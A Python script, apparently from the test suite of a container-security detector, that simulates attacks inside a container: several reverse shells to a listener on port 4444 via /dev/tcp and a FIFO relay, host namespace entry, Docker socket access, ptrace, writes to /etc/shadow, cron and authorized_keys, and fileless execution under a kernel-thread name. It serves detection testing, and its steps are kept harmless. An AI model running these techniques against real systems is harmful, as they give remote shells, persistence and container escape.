"""What happens inside a simulation's container: `inside.py NAME`. Standard library only; it knows nothing of Seawall.

Each simulation does the least that shows the attack and touches nothing but its own container. The two that reach the
host do what cannot change it: they ping Docker, and run the host's `true`.
"""

import contextlib
import ctypes
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

PORT = 4444
SETTLE = 2.0
"""Seconds before the attack, so that the node knows the container by name."""
CLONE_NEWNS = 0x00020000
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
NOTE = "# written by a harmless simulation\n"

libc = ctypes.CDLL(None, use_errno=True)


def call(name: str, *arguments: object) -> None:
    """A function of the C library; raises OSError when it fails."""
    if getattr(libc, name)(*arguments) < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{name}: {os.strerror(number)}")


def dial() -> socket.socket:
    """A connection to the listener."""
    return socket.create_connection((os.environ["LISTENER"], PORT), timeout=10)


def listen() -> None:
    """The other side of a reverse shell: types `id`, then `exit`, to everyone who calls."""
    with socket.create_server(("0.0.0.0", PORT)) as server:
        while True:
            peer, _ = server.accept()
            threading.Thread(target=converse, args=(peer,), daemon=True).start()


def converse(peer: socket.socket) -> None:
    with peer, contextlib.suppress(OSError):
        peer.settimeout(3)
        peer.sendall(b"id\nexit\n")
        while said := peer.recv(4096):
            os.write(1, said)  # what a shell answered, to be read in the container's log


def reverse_shell_bash() -> None:
    subprocess.run(["bash", "-c", f"bash -i >& /dev/tcp/{os.environ['LISTENER']}/{PORT} 0>&1"], timeout=15, check=False)


def reverse_shell_dup() -> None:
    with dial() as peer:
        fd = peer.fileno()
        subprocess.run(["sh", "-i"], stdin=fd, stdout=fd, stderr=fd, timeout=15, check=False)


def reverse_shell_relay() -> None:
    relay = f"{sys.executable} {sys.argv[0]} relay"
    line = f"mkfifo /tmp/f && cat /tmp/f | sh -i 2>&1 | {relay} > /tmp/f"
    subprocess.run(["bash", "-c", line], timeout=15, check=False)


def relay() -> None:
    """What nc does: standard input to the peer, the peer to standard output."""
    with dial() as peer:
        thread = threading.Thread(target=pump, args=(0, peer.fileno()), daemon=True)
        thread.start()
        pump(peer.fileno(), 1)


def pump(source: int, target: int) -> None:
    with contextlib.suppress(OSError):
        while part := os.read(source, 4096):
            os.write(target, part)


def shell_dials_out() -> None:
    line = f"exec 5<>/dev/tcp/{os.environ['LISTENER']}/{PORT} && read -t 3 -r _ <&5"
    subprocess.run(["bash", "-c", line], timeout=15, check=False)


def runtime_socket() -> None:
    with socket.socket(socket.AF_UNIX) as docker:
        docker.settimeout(5)
        docker.connect("/run/other.sock")
        docker.sendall(b"GET /_ping HTTP/1.0\r\n\r\n")
        docker.recv(64)


def namespace_enter() -> None:
    with Path(f"/proc/{os.environ['HOST_PID']}/ns/mnt").open("rb") as namespace:
        call("setns", namespace.fileno(), CLONE_NEWNS)


def host_program() -> None:
    namespace_enter()
    os.execv("/bin/true", ["true"])


def namespace_create() -> None:
    call("unshare", CLONE_NEWNS)


def mount() -> None:
    Path("/mnt/empty").mkdir(parents=True, exist_ok=True)
    call("mount", b"none", b"/mnt/empty", b"tmpfs", 0, None)
    call("umount", b"/mnt/empty")


def ptrace() -> None:
    child = subprocess.Popen(["sleep", "30"])
    try:
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        libc.ptrace.restype = ctypes.c_long
        call("ptrace", PTRACE_ATTACH, child.pid, None, None)
        os.waitpid(child.pid, os.WUNTRACED)
        call("ptrace", PTRACE_DETACH, child.pid, None, None)
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait(5)


def append(path: str) -> None:
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    with Path(path).open("a") as file:
        file.write(NOTE)


def preload() -> None:
    path = Path("/etc/ld.so.preload")
    path.touch()
    path.unlink()


def drop_program() -> None:
    copy = shutil.copy(shutil.which("true") or "/bin/true", "/opt/kworker-update")
    subprocess.run([copy], timeout=5, check=False)


def fileless() -> None:
    memory = os.memfd_create("x", 0)
    os.write(memory, Path(shutil.which("true") or "/bin/true").read_bytes())
    if os.fork() == 0:
        os.execv(f"/proc/self/fd/{memory}", ["kthreadd"])
    os.wait()


STEPS: dict[str, Callable[[], None]] = {
    "reverse-shell-bash": reverse_shell_bash,
    "reverse-shell-dup": reverse_shell_dup,
    "reverse-shell-relay": reverse_shell_relay,
    "shell-dials-out": shell_dials_out,
    "runtime-socket": runtime_socket,
    "namespace-enter": namespace_enter,
    "host-program": host_program,
    "namespace-create": namespace_create,
    "mount": mount,
    "ptrace": ptrace,
    "shadow": lambda: append("/etc/shadow"),
    "cron": lambda: append("/etc/cron.d/simulation"),
    "ssh-key": lambda: append("/root/.ssh/authorized_keys"),
    "preload": preload,
    "drop-program": drop_program,
    "fileless": fileless,
}


def main() -> None:
    name = sys.argv[1]
    if name == "listen":
        listen()
    elif name == "relay":
        relay()
    else:
        time.sleep(SETTLE)
        STEPS[name]()
        time.sleep(0.5)


if __name__ == "__main__":
    main()
